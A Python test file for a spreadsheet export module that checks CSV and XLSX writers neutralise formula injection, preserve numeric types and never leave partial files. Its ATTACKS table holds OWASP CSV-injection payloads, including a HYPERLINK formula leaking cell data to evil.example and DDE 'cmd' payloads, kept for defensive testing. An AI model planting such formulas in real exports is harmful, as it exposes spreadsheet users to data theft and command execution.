"""The one spreadsheet writer (core.exports): formula injection neutralised, numbers kept,
no partial file. No database."""

from __future__ import annotations

import csv
import io
import tempfile
from datetime import date, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from wenjiuye.core.exports import Sheet, neutralise, write_csv, write_workbook, write_xlsx

#: What an uploaded file can carry (OWASP CSV injection payloads) and how it comes out.
ATTACKS = {
    '=HYPERLINK("http://evil.example/?"&A1,"点击")': '\'=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    "+1+1": "'+1+1",
    "-2+3": "'-2+3",
    "-5": "'-5",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}
HEADERS = ["文本", "数"]


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def test_neutralise_prefixes_only_what_a_spreadsheet_would_run():
    for raw, escaped in ATTACKS.items():
        assert neutralise(raw) == escaped
    for harmless in ("宝丰县", "a=b", "5", "", "'=already text", "#N/A", "1-2"):
        assert neutralise(harmless) == harmless
    assert neutralise("\x01=1+1") == "'\x01=1+1"  # any leading control character


def test_csv_text_cells_are_escaped_numbers_are_not(tmp_path):
    rows = [[raw, -5] for raw in ATTACKS]
    rows.append(["普通文本", -1.25])
    rows.append([None, Decimal("-3.50")])
    out = tmp_path / "out.csv"
    assert write_csv(out, HEADERS, rows) == len(rows)
    header, *back = read_csv(out)
    assert header == HEADERS
    assert [r[0] for r in back[: len(ATTACKS)]] == list(ATTACKS.values())
    assert {r[1] for r in back[: len(ATTACKS)]} == {"-5"}  # the number -5 stays a number
    assert back[-2] == ["普通文本", "-1.25"] and back[-1] == ["", "-3.50"]
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8


def test_csv_escapes_headers_lists_and_dicts_too(tmp_path):
    out = tmp_path / "out.csv"
    write_csv(out, ["=1+1", "b"], [[["=x"], {"k": "=y"}]])
    header, row = read_csv(out)
    assert header == ["'=1+1", "b"]
    assert row == ['["=x"]', '{"k": "=y"}']  # JSON text starts with [ or {: nothing to run


def test_xlsx_text_cells_are_strings_never_formulas_numbers_stay_numbers(tmp_path):
    rows = [[raw, -5] for raw in ATTACKS]
    rows += [["#N/A", 0.5], ["宝丰县", Decimal("-3.5")], [True, date(2022, 3, 31)]]
    out = tmp_path / "out.xlsx"
    assert write_xlsx(out, HEADERS, rows, sheet="名单") == len(rows)
    ws = openpyxl.load_workbook(out)["名单"]
    assert [c.value for c in ws[1]] == HEADERS and all(c.font.b for c in ws[1])
    cells = list(ws.iter_rows(min_row=2))
    for (text, number), escaped in zip(cells, ATTACKS.values(), strict=False):
        assert text.data_type == "s" and text.value.startswith("'")
        assert text.value == escaped.replace("\r", "\n")  # XML reads a carriage return as \n
        assert number.data_type == "n" and number.value == -5
    na, ratio = cells[len(ATTACKS)]
    assert (na.data_type, na.value) == ("s", "#N/A")  # text, not an error value
    assert (ratio.data_type, ratio.value) == ("n", 0.5)
    name, decimal = cells[len(ATTACKS) + 1]
    assert (name.value, decimal.data_type, decimal.value) == ("宝丰县", "n", -3.5)
    flag, day = cells[len(ATTACKS) + 2]
    assert flag.data_type == "b" and flag.value is True
    assert day.is_date and day.value == datetime(2022, 3, 31)  # noqa: DTZ001 (spreadsheets are naive)


def test_xlsx_drops_characters_xml_cannot_carry_and_still_escapes(tmp_path):
    out = tmp_path / "out.xlsx"
    aware = datetime(2022, 3, 31, 9, 30, tzinfo=timezone(timedelta(hours=8)))
    write_xlsx(out, HEADERS, [["\x01=1+1", aware], ["a\x00b", None]])
    ws = openpyxl.load_workbook(out).active
    naive = aware.replace(tzinfo=None)  # spreadsheets have no time zones: the wall-clock time
    assert [c.value for c in ws[2]] == ["'=1+1", naive]
    assert ws.cell(row=3, column=1).value == "ab"


def test_a_workbook_of_several_sheets_with_number_formats():
    buf = io.BytesIO()
    counts = write_workbook(
        buf,
        [
            Sheet("检查评估", ["县", "完整率"], [["宝丰县", 0.5], ["叶县", None]], {1: "0.0%"}),
            Sheet("政策参数", ["参数", "取值"], iter([["=x", "=y"]])),
        ],
    )
    assert counts == [2, 1]
    wb = openpyxl.load_workbook(io.BytesIO(buf.getvalue()))
    first = wb["检查评估"]
    assert first.cell(row=2, column=2).number_format == "0.0%"
    assert first.cell(row=3, column=2).number_format == "0.0%"  # the empty cell too
    assert first.cell(row=2, column=2).value == 0.5
    assert [c.value for c in wb["政策参数"][2]] == ["'=x", "'=y"]


def test_stream_targets():
    text = io.StringIO()
    write_csv(text, HEADERS, [["=1", 1]])
    assert text.getvalue() == "\ufeff文本,数\r\n'=1,1\r\n"
    binary = io.BytesIO()
    write_xlsx(binary, HEADERS, [["=1", 1]])
    ws = openpyxl.load_workbook(io.BytesIO(binary.getvalue())).active
    assert [(c.value, c.data_type) for c in ws[2]] == [("'=1", "s"), (1, "n")]


def failing_rows():
    yield ["第一行", 1]
    yield ["第二行", 2]
    raise OSError("disk full")


@pytest.mark.parametrize("writer", [write_csv, write_xlsx])
def test_a_failure_in_the_middle_leaves_no_file_and_no_temporary_file(
    tmp_path, monkeypatch, writer
):
    scratch = tmp_path / "system-tmp"  # where openpyxl's write-only sheets spool
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    folder = tmp_path / "exports"
    with pytest.raises(OSError, match="disk full"):
        writer(folder / "名单.out", HEADERS, failing_rows())
    assert not folder.exists() or list(folder.iterdir()) == []
    assert list(scratch.iterdir()) == []


@pytest.mark.parametrize("writer", [write_csv, write_xlsx])
def test_a_failed_rewrite_keeps_the_previous_file(tmp_path, writer):
    target = tmp_path / "名单.out"
    target.write_bytes(b"previous export")
    with pytest.raises(OSError):
        writer(target, HEADERS, failing_rows())
    assert target.read_bytes() == b"previous export"
    assert [p.name for p in tmp_path.iterdir()] == [target.name]
    writer(target, HEADERS, [["新", 1]])  # a successful write replaces it
    assert target.read_bytes() != b"previous export"
    assert [p.name for p in tmp_path.iterdir()] == [target.name]


@pytest.mark.parametrize("writer", [write_csv, write_xlsx])
def test_a_row_of_the_wrong_width_is_an_error_not_a_shifted_column(tmp_path, writer):
    with pytest.raises(ValueError, match="row 2 has 3 values for 2 columns"):
        writer(tmp_path / "x.out", HEADERS, [["a", 1], ["b", 2, "extra"]])
    assert list(tmp_path.iterdir()) == []


def test_rows_stream_from_a_generator(tmp_path):
    produced = 0

    def rows():
        nonlocal produced
        for i in range(20_000):
            produced += 1
            yield [f"-{i}", -i]

    out = tmp_path / "big.csv"
    assert write_csv(out, HEADERS, rows()) == 20_000 == produced
    back = read_csv(out)
    assert back[-1] == ["'-19999", "-19999"] and len(back) == 20_001
